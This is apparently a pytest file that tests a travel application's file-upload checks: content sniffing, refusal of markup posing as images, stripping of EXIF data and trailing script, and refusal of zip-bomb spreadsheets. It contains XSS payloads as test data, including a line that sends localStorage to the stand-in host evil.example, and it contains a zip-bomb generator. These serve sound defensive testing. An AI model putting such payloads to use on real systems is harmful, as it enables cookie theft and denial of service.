"""travel's uploads judged by content (situok_kit.uploads): trip attachments and receipts, rate files."""
import io
import time
import zipfile

import pytest
from PIL import Image
from situok_kit.errors import ValidationFailed
from travel.domain import rates, trip
from travel_testkit import b64

SCRIPT = b"<script>alert(document.cookie)</script>"


def image(fmt="PNG", **save) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (6, 4), (10, 120, 200)).save(out, fmt, **save)
    return out.getvalue()


def rate_xlsx(rows) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["jenis", "provinsi", "kategori", "tingkat", "jumlah"])
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb_xlsx() -> bytes:
    good = zipfile.ZipFile(io.BytesIO(rate_xlsx([])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in good.infolist():
            body = good.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"</sheetData>", b"<!--" + b"A" * (6 * 1024 * 1024) + b"--></sheetData>")
            bomb.writestr(info.filename, body)
    return out.getvalue()


def upload(name, content, content_type):
    return {"filename": name, "content_type": content_type, "content_b64": content}


def test_png_declared_as_pdf_is_kept_as_the_png_it_is():
    kept = trip.checked_file(upload("scan.pdf", image("PNG"), "application/pdf"), "attachments.0.content_b64")
    assert kept["content_type"] == "image/png" and kept["filename"] == "scan.png"
    with Image.open(io.BytesIO(kept["content_b64"])) as im:
        assert im.format == "PNG"


@pytest.mark.parametrize("content", [b"<html><body><script>alert(1)</script></body></html>",
                                     b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                                     SCRIPT, b"alert(document.cookie); fetch('//evil.example/' + localStorage.t)"])
def test_markup_named_jpg_is_refused_naming_the_field(content):
    with pytest.raises(ValidationFailed) as err:
        trip.checked_file(upload("foto.jpg", content, "image/jpeg"), "lines.0.receipts.1.content_b64")
    assert err.value.status == 422 and set(err.value.fields) == {"lines.0.receipts.1.content_b64"}


def test_jpeg_with_trailing_script_is_reencoded_without_exif():
    exif = Image.Exif()
    exif[0x010F] = "SpyCam"
    dirty = image("JPEG", exif=exif.tobytes()) + SCRIPT
    kept = trip.checked_file(upload("hotel.jpg", dirty, "image/jpeg"), "f")
    assert kept["content_b64"] != dirty and SCRIPT not in kept["content_b64"] and b"SpyCam" not in kept["content_b64"]
    with Image.open(io.BytesIO(kept["content_b64"])) as im:
        im.load()
        assert im.format == "JPEG" and not im.getexif()


def test_rate_file_must_be_csv_or_xlsx_by_content():
    with pytest.raises(ValidationFailed) as err:
        rates.parse_file("tarif.csv", image("PNG"))
    assert "bukan" in err.value.fields["file"]
    with pytest.raises(ValidationFailed) as err:        # an .xlsx name does not make HTML a workbook
        rates.parse_file("tarif.xlsx", b"<html><script>x</script></html>")
    assert "bukan" in err.value.fields["file"] and "html" in err.value.fields["file"]


def test_rate_xlsx_zip_bomb_is_refused_without_inflating(monkeypatch):
    bomb = zip_bomb_xlsx()
    sheet = next(i for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist() if i.filename.endswith("sheet1.xml"))
    assert sheet.file_size / sheet.compress_size > 100

    def no_inflating(*args, **kwargs):
        raise AssertionError("inflated")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_inflating)
    started = time.monotonic()
    with pytest.raises(ValidationFailed) as err:
        rates.parse_file("tarif.xlsx", bomb)
    assert err.value.status == 422 and "rasio" in err.value.fields["file"]
    assert time.monotonic() - started < 1


def test_rate_xlsx_rows_are_counted_while_reading(monkeypatch):
    monkeypatch.setattr(rates, "MAX_READ_ROWS", 10)
    with pytest.raises(ValidationFailed) as err:
        rates.parse_file("tarif.xlsx", rate_xlsx([["transport", "51", "", "", 1000]] * 20))
    assert "10" in err.value.fields["file"]


@pytest.mark.integration
def test_rate_table_zip_bomb_over_rpc_is_a_422(rpc, bureau):
    with pytest.raises(ValidationFailed) as err:
        rpc(bureau.admin()).load_rate_table(2031, "tarif.xlsx", b64(zip_bomb_xlsx()))
    assert "rasio" in err.value.fields["file"]


def test_text_declared_as_text_is_kept_as_text():
    kept = trip.checked_file(upload("notulen.txt", b"Notulen rapat", "text/plain"), "f")
    assert kept["content_type"] == "text/plain" and kept["filename"] == "notulen.txt"
